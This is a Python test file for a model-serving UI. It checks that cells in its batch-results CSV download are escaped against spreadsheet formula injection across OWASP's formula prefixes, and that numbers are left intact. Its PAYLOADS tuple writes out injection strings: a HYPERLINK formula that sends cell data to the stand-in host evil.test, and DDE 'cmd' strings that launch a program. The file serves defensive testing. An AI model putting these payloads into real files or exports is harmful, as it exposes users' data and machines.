"""The batch results CSV opens in a spreadsheet without running anything (issue 13, point 6).

Every cell that comes from outside can start a formula: uploaded cells (rejected numbers, categories, text),
feature names in the header, class labels and the messages in the warnings and error columns. Each class
is tried with every prefix OWASP lists; numbers, negative ones included, must stay numbers.
"""

from __future__ import annotations

import csv
import json
import time
from pathlib import Path
from typing import Any

import httpx
import pytest

from modelberth_core import contract
from modelberth_core.contract import ModelCard
from modelberth_ui import handlers
from modelberth_ui.batch import FORMULA_PREFIXES, BatchLimits, spreadsheet_safe
from modelberth_ui.client import ModelberthClient
from modelberth_ui.handlers import Session

ONE_ROW_PER_REQUEST = BatchLimits(max_bytes=100_000, max_rows=1000, chunk_rows=1, chunk_bytes=512 * 1024)
PAYLOADS = (
    'HYPERLINK("http://evil.test/?leak="&A1,"click")',
    "cmd|' /C calc'!A0",
    "SUM(1+1)*cmd|'/C calc'!A0",
)
NUMBERS = ["-3", "-1.5", "+2", "-.5", "-1e3", "-2.5E-3", "0", "12"]
NOT_NUMBERS = ["-", "-inf", "-nan", "-1_000", "-1,5", "--1", "-1e", "-0x1F", "-١", "+", "@", "-1 2"]


def _session() -> Session:
    return Session("alice", "token-1", "refresh-1", ("predict",), time.time() + 900)


def _read(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def _write(path: Path, rows: list[list[str]]) -> Path:
    with path.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows(rows)
    return path


@pytest.mark.parametrize("value", NUMBERS)
def test_numbers_stay_numbers(value: str) -> None:
    assert spreadsheet_safe(value) == value
    for number in (-1.5, -2, 0.0, float("nan"), None):
        assert spreadsheet_safe(number) is number


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
@pytest.mark.parametrize("payload", [*PAYLOADS, *NOT_NUMBERS, ""])
def test_every_formula_prefix_is_neutralised(prefix: str, payload: str) -> None:
    cell = prefix + payload
    assert spreadsheet_safe(cell) == "'" + cell


@pytest.mark.parametrize("value", NOT_NUMBERS)
def test_text_that_only_looks_numeric_is_neutralised(value: str) -> None:
    expected = "'" + value if value.startswith(FORMULA_PREFIXES) else value
    assert spreadsheet_safe(value) == expected


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
def test_the_download_has_no_cell_a_spreadsheet_would_run(
    fake_factory: Any, mixed_card: ModelCard, tmp_path: Path, prefix: str
) -> None:
    payload = prefix + PAYLOADS[0]
    # A feature name, a category, a class label and a server message, each starting a formula.
    features = [
        *mixed_card.features,
        contract.FeatureSpec(name=prefix + "rate", type="numeric", required=False, min=0, max=1),
    ]
    card = mixed_card.model_copy(update={"features": features, "classes": ["no", payload]})
    fake = fake_factory(card)

    def transport(request: httpx.Request) -> httpx.Response:
        if request.url.path.endswith("/predict"):
            instances = json.loads(request.content)["instances"]
            if instances[0]["note"] == "server says no":
                return httpx.Response(422, json={"detail": payload})  # a message naming no field
        return fake(request)

    client = ModelberthClient(
        "http://auth.test", "http://inference.test", transport=httpx.MockTransport(transport)
    )
    upload = _write(
        tmp_path / "upload.csv",
        [
            ["age", "job", "note", "income", prefix + "rate"],
            [payload, "tech", "fine", "", ""],  # 1: rejected numeric cell
            ["40", payload, payload, "", ""],  # 2: category and text predicted as sent
            ["40", "tech", "rate out of range", "", "2"],  # 3: a warning naming the prefixed feature
            ["30", "tech", "server says no", "", ""],  # 4: the service's message is the error
            ["-3", "admin", "", "-1.5", "-.5"],  # 5: negative numbers
            ["30", "tech", "fine\r" + payload, "", ""],  # 6: a line break inside a cell starts no row
            ["30", "tech", "fine\n" + payload, "", ""],  # 7
        ],
    )
    view = handlers.predict_batch(client, _session(), card, upload, ONE_ROW_PER_REQUEST, tmp_path / "out")
    assert view.tables is not None
    assert view.tables.csv_path is not None
    rows = _read(view.tables.csv_path)
    header, body = rows[0], {int(row[0]): dict(zip(rows[0], row, strict=True)) for row in rows[1:]}

    for cell in [cell for row in rows for cell in row]:
        assert not cell.startswith(FORMULA_PREFIXES) or cell in NUMBERS, cell
    safe, rate = "'" + payload, "'" + prefix + "rate"
    assert rate in header
    assert body[1]["age"] == safe
    assert (body[2]["job"], body[2]["note"], body[2]["prediction"]) == (safe, safe, safe)
    assert f"p({payload})" in header  # "p(" comes first: that column name is safe as it is
    assert body[4]["error"] == safe
    assert (body[5]["age"], body[5]["income"]) == ("-3", "-1.5")
    if prefix.strip():  # the reader strips header names, so a "\trate" column never matches a feature
        assert body[3]["warnings"].startswith("'" + prefix + "rate: ")
        assert body[5][rate] == "-.5"
    assert body[5]["prediction"] == safe
    assert float(body[5]["p(no)"]) > 0  # probabilities stay numbers
    assert (body[6]["note"], body[7]["note"]) == ("fine\r" + payload, "fine\n" + payload)
    assert len(rows) == 8
